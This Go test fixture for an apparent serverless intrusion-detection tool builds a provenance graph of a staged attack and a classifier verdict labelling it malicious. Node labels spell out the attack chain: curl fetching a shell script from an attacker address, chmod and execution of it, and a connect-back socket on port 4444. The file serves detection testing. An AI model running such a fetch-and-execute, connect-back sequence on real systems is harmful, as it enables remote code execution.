package alert

import (
	"time"

	"github.com/faasmon/faasmon/pkg/graph/provenance"
	"github.com/faasmon/faasmon/pkg/verdict"
)

var t0 = time.Date(2026, 7, 1, 12, 0, 0, 123456789, time.UTC)

// attackGraph is the first stage of the container-reuse attack, by hand:
// the Node.js handler downloads a payload with curl, makes it executable,
// runs it, and the payload connects back to the attacker.
func attackGraph() *provenance.Graph {
	n := func(id int, kind provenance.NodeKind, label string) provenance.Node {
		return provenance.Node{ID: id, Kind: kind, Label: label}
	}
	nodes := []provenance.Node{
		n(0, provenance.NodeProcess, "node index.js"),
		n(1, provenance.NodeProcess, "curl http://10.62.9.2/p.sh"),
		n(2, provenance.NodeFile, "/tmp/p.sh"),
		n(3, provenance.NodeProcess, "/tmp/p.sh"),
		n(4, provenance.NodeSocket, "10.62.9.2:4444"),
		n(5, provenance.NodeSocket, "10.62.9.2:80"),
		n(6, provenance.NodeFile, "/home/app/function/handler.js"),
		n(7, provenance.NodeSocket, "10.62.0.1:8080"),
		n(8, provenance.NodeFile, "/usr/lib/libc.so.6"),
	}
	nodes[0].PID, nodes[0].Exe, nodes[0].Argv0 = 100, "/usr/local/bin/node", "node"
	nodes[1].PID, nodes[1].Exe, nodes[1].Argv0 = 101, "/usr/bin/curl", "curl"
	nodes[3].PID, nodes[3].Exe, nodes[3].Argv0 = 102, "/tmp/p.sh", "/tmp/p.sh"
	nodes[2].Path = "/tmp/p.sh"
	nodes[4].Addr, nodes[4].Proto = "10.62.9.2:4444", "tcp"
	e := func(i, src, dst int, kind provenance.EdgeKind) provenance.Edge {
		t := t0.Add(time.Duration(i) * time.Millisecond)
		return provenance.Edge{Src: src, Dst: dst, Kind: kind, First: t, Last: t, Count: 1}
	}
	return &provenance.Graph{
		Version: provenance.SchemaVersion, ID: "g-1", Function: "resize", Namespace: "openfaas-fn",
		Node: "node-a", Pod: "resize-7d9f-abcde", Container: "c0ffee", Image: "ghcr.io/faasmon/resize@sha256:0123abcd", Window: provenance.WindowInvocation, CallID: "call-1",
		Start: t0, End: t0.Add(time.Second),
		Nodes: nodes,
		Edges: []provenance.Edge{
			e(0, 7, 0, provenance.EdgeAccept),
			e(1, 6, 0, provenance.EdgeRead),
			e(2, 0, 1, provenance.EdgeFork),
			e(3, 8, 1, provenance.EdgeRead),
			e(4, 1, 5, provenance.EdgeConnect),
			e(5, 1, 2, provenance.EdgeWrite),
			e(6, 0, 2, provenance.EdgeChmod),
			e(7, 0, 3, provenance.EdgeFork),
			e(8, 2, 3, provenance.EdgeExecve),
			e(9, 3, 4, provenance.EdgeConnect),
			e(10, 3, 4, provenance.EdgeSend),
		},
	}
}

// attackVerdict is the classifier's verdict on attackGraph, its explanation
// edges given out of time order on purpose.
func attackVerdict() verdict.Verdict {
	g := attackGraph()
	return verdict.Verdict{
		GraphID: g.ID, Function: g.Function, Namespace: g.Namespace, Node: g.Node, Pod: g.Pod,
		Container: g.Container, CallID: g.CallID, Window: g.Window,
		Verdict: verdict.Attack, Score: 0.97, Threshold: 0.5, ModelVersion: "gnn-test-1",
		Explanation: &verdict.Explanation{
			Method: "test",
			Nodes: []verdict.NodeAttr{
				explNodeOf(g, 3, 0.99), explNodeOf(g, 2, 0.9), explNodeOf(g, 4, 0.85), explNodeOf(g, 1, 0.7),
			},
			Edges: []verdict.EdgeAttr{
				explEdgeOf(g, 9, 0.9),  // 3 connect 4
				explEdgeOf(g, 2, 0.8),  // 0 fork 1
				explEdgeOf(g, 8, 0.95), // 2 execve 3
				explEdgeOf(g, 5, 0.7),  // 1 write 2
				explEdgeOf(g, 6, 0.6),  // 0 chmod 2
			},
		},
		Graph: g,
	}
}

// explNodeOf and explEdgeOf are explanation entries as pkg/classify/gnn makes them:
// node id, edge index, kinds and endpoint labels from the graph.
func explNodeOf(g *provenance.Graph, id int, w float64) verdict.NodeAttr {
	n := g.Nodes[id]
	return verdict.NodeAttr{ID: id, Kind: string(n.Kind), Label: n.Label, Weight: w}
}

func explEdgeOf(g *provenance.Graph, i int, w float64) verdict.EdgeAttr {
	e := g.Edges[i]
	return verdict.EdgeAttr{Index: i, Src: e.Src, Dst: e.Dst, Kind: string(e.Kind),
		From: g.Nodes[e.Src].Label, To: g.Nodes[e.Dst].Label, Weight: w}
}
